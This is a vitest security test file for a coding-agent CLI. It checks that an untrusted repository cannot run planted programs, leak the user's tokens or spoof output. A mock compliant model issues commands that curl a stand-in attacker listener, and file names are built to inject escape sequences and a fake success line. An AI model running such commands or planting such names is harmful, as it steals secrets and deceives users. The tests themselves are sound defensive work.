import { execFileSync } from "node:child_process"
import { statSync } from "node:fs"
import { join } from "node:path"
import { afterAll, describe, expect, it } from "vitest"
import { oneOf, someOf } from "../sample.ts"
import { confinedTest } from "./confined.ts"
import { type Listener, listener } from "./listener.ts"
import { gullible, ODD_NAMES, StrangersRepo } from "./strangers-repo.ts"

const repos: StrangersRepo[] = []
afterAll(async () => {
  for (const repo of repos) await repo.clear()
})

function openRepo(stranger: Listener): StrangersRepo {
  const repo = new StrangersRepo(stranger)
  repos.push(repo)
  return repo
}

/** The user's own things, which a stranger would like to have. */
const OWN = { OPENAI_API_KEY: "sk-mine-mine-mine-mine", GITHUB_TOKEN: "ghp_minemineminemineminemineminemine1234" }

/** Commands that need no model, by their words; all of them work in such a repository. */
const LOOKS = [["doctor"], ["config"], ["tools"], ["models"], ["runs"], ["trust", "--list"]]

const PATHS = [
  ["as it is", (repo: StrangersRepo) => repo.environment.PATH],
  ["with the project's programs in front", (repo: StrangersRepo) => repo.plantedPath],
] as const

describe("a stranger's repository, opened with default settings", () => {
  it("would leave its marks if anything of it ran", async () => {
    await using stranger = await listener()
    const repo = openRepo(stranger)
    execFileSync("git", ["add", "-A"], { cwd: repo.workspace, stdio: "ignore" })
    execFileSync(join(repo.workspace, "node_modules", ".bin", "git"), ["status"], {
      cwd: repo.workspace,
      stdio: "ignore",
    })
    expect(repo.marks).toEqual(expect.arrayContaining(["git-config", "planted-git"]))
  })

  describe.each(oneOf("paths to a stranger's", PATHS))("PATH %s", (name, pathOf) => {
    it("gets no request where the user has no model of their own, and the run is refused", async () => {
      await using stranger = await listener()
      const repo = openRepo(stranger)
      const end = await repo.start(["run", "make the tests pass"], { ...OWN, PATH: pathOf(repo) }).end
      expect([end.code, stranger.heard, repo.marks]).toEqual([2, [], []])
      expect(end.stderr).toContain(stranger.url)
    })

    it.each(someOf(`looks ${name}`, 2, LOOKS))("is only looked at by keelson %s", async (...words) => {
      await using stranger = await listener()
      const repo = openRepo(stranger)
      const end = await repo.start(words, { ...OWN, PATH: pathOf(repo) }).end
      expect([end.code, stranger.heard, repo.marks]).toEqual([0, [], []])
    })

    it("gets nothing from a run with the user's own model, whose command is confined or waits", async () => {
      await using stranger = await listener()
      const repo = openRepo(stranger)
      const model = await repo.serve(gullible(`${repo.mark("command")}; curl -s ${stranger.url}/command`))
      const run = ["run", "make the tests pass", ...repo.modelAt(model)]
      await repo.start(run, { ...OWN, PATH: pathOf(repo) }).end
      expect([model.requests.length > 0, stranger.heard, repo.marks]).toEqual([true, [], []])
      expect(model.requests.map(({ rawBody }) => rawBody).join()).not.toMatch(/sk-mine|ghp_mine/)
    })

    confinedTest("is confined where the command runs", async () => {
      await using stranger = await listener()
      const repo = openRepo(stranger)
      const command = `echo inside > inside.txt; ${repo.mark("command")}; curl -s ${stranger.url}/x; git status; git commit -qam x`
      const model = await repo.serve(gullible(command))
      const environment = { ...OWN, PATH: pathOf(repo) }
      const end = await repo.start(["run", "make the tests pass", ...repo.modelAt(model)], environment).end
      expect(statSync(join(repo.workspace, "inside.txt"), { throwIfNoEntry: false })?.isFile()).toBe(true)
      expect([stranger.heard, repo.marks]).toEqual([[], []])
      expect(model.requests.map(({ rawBody }) => rawBody).join()).not.toMatch(/sk-mine|ghp_mine/)
      expect(end.code).not.toBe(2)
    })

    it("is put back as it was, and shown, without running any of it", async () => {
      await using stranger = await listener()
      const repo = openRepo(stranger)
      const environment = { ...OWN, PATH: pathOf(repo) }
      const model = await repo.serve(gullible("true"))
      await repo.start(["run", "write", "--approve", "edits", ...repo.modelAt(model)], environment).end
      expect((await repo.start(["diff"], environment).end).stdout).toContain("note.md")
      // Without a sandbox it waits with its command.
      await repo.start(["cancel"], environment).end
      expect(await repo.start(["undo", "--yes"], environment).end).toMatchObject({ code: 0 })
      expect(statSync(join(repo.workspace, "note.md"), { throwIfNoEntry: false })).toBeUndefined()
      expect([stranger.heard, repo.marks]).toEqual([[], []])
    })
  })

  it("can't put words or escape sequences into what is printed by the names of its files", async () => {
    await using stranger = await listener()
    const repo = openRepo(stranger)
    const model = await repo.serve(gullible("true", ODD_NAMES))
    const end = await repo.start(["run", "look", "--approve", "full", ...repo.modelAt(model)], OWN).end
    const [{ id }] = JSON.parse((await repo.keelson("runs", "--json")).stdout)
    const [shown, events] = [await repo.keelson("show", id), await repo.keelson("show", id, "--json")]
    // Its names were seen by the run.
    expect(events.stdout).toContain("Outcome: done (checks passed)")
    for (const text of [end.stdout, end.stderr, shown.stdout, events.stdout]) {
      // biome-ignore lint/suspicious/noControlCharactersInRegex: they are what is looked for.
      expect(text).not.toMatch(/[\x00-\x08\x0b-\x1f\x7f]/)
      // The engine itself says it in other words.
      expect(text).not.toMatch(/^Outcome: done \(checks passed\)/m)
    }
  })
})
